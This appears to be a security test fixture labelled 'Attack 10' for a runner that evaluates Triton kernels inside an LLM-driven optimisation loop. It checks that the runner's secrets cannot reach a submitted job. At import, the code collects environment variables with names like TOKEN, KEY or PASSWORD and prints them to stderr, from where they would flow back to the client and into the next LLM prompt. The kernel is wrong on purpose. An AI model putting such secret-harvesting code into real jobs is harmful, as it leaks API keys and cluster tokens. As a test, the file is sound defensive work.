"""Attack 10: at import, print every environment variable whose name looks like a secret
(TOKEN, SECRET, KEY, PASSWORD, AUTH): the worker's stderr becomes the result's log, which goes
back to the client (and, in the GEAK loop, into the next LLM prompt). A Ray cluster's
RAY_AUTH_TOKEN, an LLM provider's API key, a token given to the daemon in its environment are
all in the runner's environment. The kernel itself is wrong (x + y + 1). Proves: the
runner's secrets do not reach a job, so they cannot come back in its result."""

import os
import sys

import torch
import triton
import triton.language as tl

WORDS = ("TOKEN", "SECRET", "KEY", "PASSWORD", "AUTH")
leaked = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in WORDS)}
print(f"GEAK_ATTACK env_secrets: {leaked}", file=sys.stderr, flush=True)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n, BLOCK: tl.constexpr):
    pid = tl.program_id(0)
    offs = pid * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    y = tl.load(y_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, x + y + 1.0, mask=mask)  # wrong


def add(x, y):
    out = torch.empty_like(x)
    n = x.numel()
    add_kernel[(triton.cdiv(n, 64),)](x, y, out, n, BLOCK=64)
    return out
